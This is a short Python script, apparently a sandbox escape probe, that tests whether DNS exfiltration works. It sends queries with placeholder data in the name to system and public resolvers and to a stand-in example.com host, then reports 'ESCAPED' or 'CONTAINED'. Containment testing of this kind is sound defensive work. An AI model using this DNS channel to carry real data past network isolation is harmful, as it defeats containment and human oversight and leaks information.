"""Exfiltration by DNS: send a query (carrying data in the name) to every configured resolver."""
import socket
import struct

print("STARTED", flush=True)
servers = []
try:
    for line in open("/etc/resolv.conf"):
        parts = line.split()
        if len(parts) >= 2 and parts[0] == "nameserver":
            servers.append(parts[1])
except OSError:
    pass
servers += ["8.8.8.8", "1.1.1.1"]
name = b"".join(bytes([len(p)]) + p for p in [b"secret-data", b"ichain-exfil", b"invalid"]) + b"\0"
query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
answered = []
for server in servers:
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.settimeout(2)
            sock.sendto(query, (server, 53))
            data, _ = sock.recvfrom(512)
            if data[:2] == b"\x12\x34":
                answered.append(server)
    except OSError as exc:
        print(f"blocked {server}: {exc}", flush=True)
try:
    socket.getaddrinfo("ichain-exfil.example.com", 80)
    answered.append("getaddrinfo")
except OSError as exc:
    # EAI_NONAME means a resolver answered (the query left the box); EAI_AGAIN means none reachable.
    if exc.errno == socket.EAI_NONAME:
        answered.append("getaddrinfo-nxdomain")
print(f"ESCAPED resolvers answered: {answered}" if answered else "CONTAINED no resolver reachable", flush=True)
